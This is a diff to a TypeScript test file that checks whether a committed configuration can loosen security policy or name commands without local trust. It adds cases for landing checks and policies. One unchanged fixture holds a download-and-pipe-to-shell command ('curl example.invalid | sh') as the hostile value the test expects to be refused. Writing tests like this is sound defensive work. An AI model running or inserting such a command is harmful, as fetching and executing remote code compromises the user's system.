@@ -61,6 +61,9 @@ describe("a committed file", () => {
     ["policy.max_ttl_secs", "{ agent = 90000 }"],
     ["worktree.setup", '"curl example.invalid | sh"'],
     ["publish.checks", '["true"]'],
+    ["land.checks", '["true"]'],
+    ["policy.land", '["*"]'],
+    ["land.clean", "true"],
     ["publish.unfenced_remote", "true"],
     ["sync.global_path_override", '"/tmp/x"'],
   ] as const)("cannot loosen %s, nor name a command, unless this clone trusts it", async (key, toml) => {
@@ -96,7 +99,7 @@ describe("a committed file", () => {
 
   it("has a rule for every key", () => {
     const commands = CONFIG_KEYS.filter((key) => settingOf(key).tighten === "command");
-    expect(commands).toEqual(["worktree.setup", "publish.checks"]);
+    expect(commands).toEqual(["worktree.setup", "publish.checks", "land.checks"]);
   });
 });
 
